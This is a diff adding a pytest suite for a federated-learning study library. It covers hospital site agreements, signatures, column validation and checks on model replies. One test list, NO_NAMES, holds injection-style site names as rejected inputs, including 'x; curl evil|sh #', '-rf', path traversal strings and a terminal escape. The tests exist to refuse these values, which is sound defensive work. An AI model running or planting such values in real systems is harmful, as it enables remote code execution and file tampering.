@@ -1,0 +1,308 @@
+"""What sites agree on, its hash and signatures; tables held against it."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+import studies
+import torch
+
+from consilience.data.tables import Cell
+from consilience.errors import InputError
+from consilience.formats.signature import new_key, public, sign
+from consilience.posterior import Dense, Gaussian
+from consilience.study.admission import admit, rehearsed, would_leave
+from consilience.study.agreement import Study, check_name, from_fields, read, read_columns, signed_words
+from consilience.study.columns import Column, features, inspect, labelled, sums
+from consilience.study.joining import joined
+from consilience.study.proposal import EXAMPLE, consistent, proposal
+from consilience.study.text import proposed, study_text
+
+
+def test_a_study_survives_its_file_and_its_layout(tmp_path: Path) -> None:
+    made = studies.study(tmp_path).recorded("abc", ["north", "south"])
+    path = tmp_path / "sepsis.toml"
+    path.write_text(study_text(made))
+
+    again = read(path)
+
+    assert again == made
+    assert study_text(again) == path.read_text()
+    path.write_text("# a remark\n" + path.read_text().replace('type = "number", ', 'type   =  "number",'))
+    assert read(path).agreement.hash == made.agreement.hash
+    assert from_fields(dataclasses.asdict(made.agreement)) == made.agreement
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "said"),
+    [
+        ("seed = 0", "seed = 1", "signature of «north» is not for this agreement"),
+        ("format = 1", "format = 2", "format 2"),
+        ('method = "mixture"', 'method = "mixtur"', "Did you mean «mixture»"),
+        ('type = "number"', 'type = "numbers"', "Did you mean «number»"),
+        ("rounds = 1", "rounds = 2", "one-round method"),
+        ("smallest = 10", "smallest = true", "smallest"),
+        ("seed = 0", "sede = 0", "sede"),
+        ("[columns]", "[colums]", "columns"),
+        ("seed = 0", "seed = ", "cannot be read as TOML"),
+        ('hand_out = "mixture"', 'hand_out = "all"', "way to hand the model out"),
+    ],
+)
+def test_a_changed_study_is_refused_in_one_sentence(tmp_path: Path, before: str, after: str, said: str) -> None:
+    path = tmp_path / "sepsis.toml"
+    path.write_text(study_text(studies.study(tmp_path)).replace(before, after, 1))
+
+    with pytest.raises(InputError, match=said):
+        read(path)
+
+
+def test_joining_and_leaving_keeps_numbers(tmp_path: Path) -> None:
+    made = studies.study(tmp_path).recorded("m", studies.NAMES)
+
+    left = made.without("south")
+    key = new_key(tmp_path / "east.key")
+    signed = sign(key, "agreement", signed_words(made.agreement.hash, "east"))
+    more = left.with_member("east", public(key), signed)
+
+    assert [s.number for s in more.active] == [0, 2, 3]  # 1 is not given again
+    assert left.models[0].superseded and not made.models[0].superseded
+    with pytest.raises(InputError, match="has left"):
+        left.member("south")
+    with pytest.raises(InputError, match="no site in the study"):
+        left.member("nowhere")
+    with pytest.raises(InputError, match="in the study already"):
+        made.with_member("North", public(key), signed)
+    with pytest.raises(InputError, match="not for this agreement and this name"):
+        made.with_member("west-2", public(key), signed)
+    with pytest.raises(InputError, match="not for this agreement and this name"):  # as older versions signed
+        made.with_member("east", public(key), sign(key, "agreement", made.agreement.hash.encode()))
+    with pytest.raises(InputError, match="not for this agreement"):
+        made.with_member("east", public(key), sign(key, "reply", signed_words(made.agreement.hash, "east")))
+
+
+NO_NAMES = [
+    "",
+    " north",
+    "north.",
+    "-rf",
+    "..",
+    "/mnt/outbox/x",
+    "..\\x",
+    "Server",
+    "x; curl evil|sh #",
+    "\x1b[2Jfake",
+    "a\x7f",
+]
+LOOK_ALIKES = ["clevel\u0430nd", "ｎorth", "nort\u200bh", "north\u0301", "[/red]", "a\nb", "x" * 65]
+
+
+@pytest.mark.parametrize("name", [*NO_NAMES, *LOOK_ALIKES])
+def test_what_is_not_a_plain_name_is_no_name_of_a_site(tmp_path: Path, name: str) -> None:
+    study = studies.study(tmp_path)
+    key = new_key(tmp_path / "east.key")
+    fields = {"hash": study.agreement.hash, "key": public(key), "site": name}
+    signed = sign(key, "agreement", signed_words(study.agreement.hash, name))
+    (tmp_path / "x.join").write_text(json.dumps({**fields, "signature": signed}))
+    path = tmp_path / "sepsis.toml"
+    path.write_text(study_text(study).replace('name = "north"', f"name = {json.dumps(name)}"), newline="")
+
+    with pytest.raises(InputError, match="cannot be a site's name"):
+        joined(study, tmp_path / "x.join")
+    with pytest.raises(InputError):
+        read(path)
+
+
+@pytest.mark.parametrize("name", ["cleveland", "St. Mary-2_b", "Zürich", "Пермь", "東京メディカル"])
+def test_names_may_be_of_any_one_script(name: str) -> None:
+    check_name(name)
+
+
+def test_a_name_changed_in_the_study_is_noticed(tmp_path: Path) -> None:
+    path = tmp_path / "sepsis.toml"
+    text = study_text(studies.study(tmp_path))
+
+    path.write_text(text.replace('name = "north"', 'name = "east"'))
+    with pytest.raises(InputError, match="«east» is not for this agreement and this name"):
+        read(path)
+    path.write_text(text + text[text.index("[[sites]]") :])
+    with pytest.raises(InputError, match="the same name"):
+        read(path)
+
+
+def test_features_are_what_the_agreement_says(tmp_path: Path) -> None:
+    path = studies.table(
+        tmp_path / "a.csv",
+        [
+            {"died": "no", "ward": "b", "lactate": "4", "age": "65", "doctor": "x"},  # another order, a column more
+            {"died": "yes", "ward": "", "lactate": "?", "age": "50", "doctor": "x"},
+        ],
+    )
+
+    found = inspect(path, studies.COLUMNS, studies.agreement(tmp_path).target)
+    data = labelled(studies.COLUMNS, studies.agreement(tmp_path).target, found)
+
+    # (65 − 50) / 15 = 1, (4 − 2) / 2 = 1; a gap is the fill, (1 − 2) / 2 = −0.5, and marked; or none of the levels
+    assert data.x.tolist() == [[1, 1, 0, 0, 1, 0], [0, -0.5, 1, 0, 0, 0]]
+    assert data.y.tolist() == [0, 1]
+    assert found.extra == ("doctor",) and found.missing == {"age": 0, "lactate": 1, "ward": 1, "died": 0}
+
+
+def test_unknown_numbers_are_compared_as_numbers() -> None:
+    column = Column("chol", range=(0.0, 700.0), missing="mark", fill=200.0, unknown=("0", "?"))
+    cells = [Cell(text, "a.csv", 2) for text in ("0", "0.0", "00", "?", "250")]
+
+    assert [column.empty(cell) for cell in cells] == [True, True, True, True, False]
+    assert column.features(cells).tolist() == [[200, 1]] * 4 + [[250, 0]]
+
+
+def test_sums_leave_out_what_is_known_too_seldom(tmp_path: Path) -> None:
+    made = studies.agreement(tmp_path)
+    records = [{"age": str(20 + i), "lactate": "?" if i else "3", "ward": "a", "died": "no"} for i in range(12)]
+    found = inspect(studies.table(tmp_path / "a.csv", records), made.columns, made.target)
+
+    total = sums(made.columns, made.target, found, smallest=10)
+
+    # ages 20 … 31: Σ = 306, Σ² = Σ_{20}^{31} i² = 10416 − 2470 = 7946; one lactate is too few; categories have no sums
+    assert total.tolist() == [[12, 306, 7946], [0, 0, 0], [0, 0, 0], [0, 0, 0]]
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "said"),
+    [
+        ("age", "850", r"1 of 60 values lie outside 18 to 100 years \(such as «850», a.csv, line 2\)"),
+        ("age", "", "missing in 1 of 60 rows"),
+        ("age", "old", "are not numbers"),
+        ("ward", "z", "none of the agreed a, b, c"),
+        ("died", "", "«died» is missing in 1"),
+        ("died", "perhaps", "none of the agreed no, yes"),
+        ("lactate", "1,5", "are not numbers"),
+    ],
+)
+def test_a_table_that_breaks_the_agreement_says_where(tmp_path: Path, column: str, value: str, said: str) -> None:
+    records = studies.rows(0)
+    records[0][column] = value
+    made = studies.agreement(tmp_path)
+
+    found = inspect(studies.table(tmp_path / "a.csv", records), made.columns, made.target)
+
+    assert len(found.problems) == 1
+    with pytest.raises(InputError, match=said):
+        features(made.columns, found)
+
+
+def test_a_missing_column_is_named(tmp_path: Path) -> None:
+    records = [{("Age" if k == "age" else k): v for k, v in r.items() if k != "ward"} for r in studies.rows(0)]
+    made = studies.agreement(tmp_path)
+
+    found = inspect(studies.table(tmp_path / "a.csv", records), made.columns, made.target)
+
+    assert len(found.problems) == 2
+    with pytest.raises(InputError, match=r"no column «age»; «Age» is spelt otherwise.* 1 more"):
+        found.sound()
+
+
+def test_columns_are_proposed_from_an_example(tmp_path: Path) -> None:
+    path = studies.table(tmp_path / "a.csv", studies.rows(0))
+
+    target, columns = proposed(path, "died")
+
+    assert target.classes == ("no", "yes")
+    assert [c.type for c in columns] == [
+        "number",
+        "number",
+        "category",
+    ]
+    assert (columns[1].unknown, columns[1].missing) == (("?",), "mark")  # of lactate
+    assert columns[0].range[0] <= 30 and columns[0].range[1] >= 90
+
+
+@pytest.mark.parametrize("names", [60, 21, 4])
+def test_texts_that_may_name_patients_are_not_proposed(tmp_path: Path, names: int) -> None:
+    count = max(names, 6) if names < 21 else 60
+    records = [{"patient": f"p{i % names}", **row} for i, row in enumerate(studies.rows(0, count))]
+    path = studies.table(tmp_path / "a.csv", records)
+
+    with pytest.raises(InputError, match=f"«patient» has {names} different texts in {count} rows"):
+        proposed(path, "died")
+
+
+def test_the_hospitals_data_dictionary_can_be_agreed_on(tmp_path: Path) -> None:
+    target, columns = read_columns(Path(__file__).parents[2] / "examples" / "hospitals" / "columns.toml")
+
+    made = proposal("heart", "", target, columns)
+    consistent(made)
+
+    assert len(columns) == 13 and len(made.feature_names) == 30
+    # The default: 62 weights of two logits, a mean and a full precision matrix in float32: 4 (62 + 62²) = 15 624 bytes.
+    assert made.leaves == ("Dense",) and would_leave(made)[1] == 15_624
+
+
+@pytest.mark.parametrize(
+    ("words", "said"),
+    [
+        ({"method": "mixtur"}, "Did you mean «mixture»"),
+        ({"model": "mpl"}, "Did you mean «mlp»"),
+        ({"method": "centralised"}, "cannot serve"),
+        ({"method": "mixture", "rounds": 3}, "one-round"),
+        ({"method": "mixture", "hand_out": "student"}, "distil=Distil"),
+        ({"method": "bcm", "hand_out": "mixture"}, 'hand_out = "ensemble"'),
+    ],
+)
+def test_proposals_that_cannot_work(words: dict[str, Any], said: str) -> None:
+    with pytest.raises(InputError, match=said):
+        consistent(proposal("x", "", *EXAMPLE, **words))
+
+
+def test_an_agreement_must_say_what_its_method_sends() -> None:
+    made = proposal("x", "", *EXAMPLE, method="mixture")
+
+    with pytest.raises(InputError, match=r'write leaves = \["Samples"\]'):
+        consistent(dataclasses.replace(made, leaves=("Point",)))
+    with pytest.raises(InputError, match="larger most_bytes"):
+        consistent(dataclasses.replace(made, most_bytes=10))
+
+
+def test_what_a_reply_must_look_like(tmp_path: Path) -> None:
+    made = studies.agreement(tmp_path)
+    expected = rehearsed(made).send
+    params = expected.params
+
+    admit(expected, expected, "x")
+    for name, bad in {
+        "shape": {**params, "0.weight": params["0.weight"][:1]},
+        "not finite": {**params, "0.weight": params["0.weight"] * torch.nan},
+        "other names": {**params, "extra": params["0.weight"]},
+        r"\) float64": {**params, "0.weight": params["0.weight"].double()},
+    }.items():
+        with pytest.raises(InputError, match=name):
+            admit(expected._replace(params=bad), expected, "x")
+    with pytest.raises(InputError, match="is a tuple"):
+        admit((params,), expected, "x")
+    wide = Gaussian({"a": torch.zeros(2)}, {"a": torch.ones(2)})
+    with pytest.raises(InputError, match="variance"):
+        admit(wide._replace(var={"a": -torch.ones(2)}), wide, "x")
+    dense = Dense(torch.zeros(2), torch.eye(2))
+    with pytest.raises(InputError, match="positive definite"):
+        admit(dense._replace(precision=-torch.eye(2)), dense, "x")
+
+
+def test_the_hash_covers_every_field(tmp_path: Path) -> None:
+    made = studies.agreement(tmp_path)
+    other = {str: "x", int: 77, float: 0.123, tuple: ("x",)}
+
+    for field in dataclasses.fields(made):
+        value = getattr(made, field.name)
+        changed = dataclasses.replace(made, **{field.name: other.get(type(value), "x")})
+        assert changed.hash != made.hash, field.name
+    assert Study(made).agreement.hash == made.hash
+
+
+@pytest.mark.parametrize(
+    "name", ["St. Mary's", "Hôpital d’Enfants", "Bern (Insel)", "A&E", "佐々木病院", "दिल्ली", "Köln, Mitte", "7"]
+)
+def test_names_that_hospitals_have_are_names(name: str) -> None:
+    check_name(name)
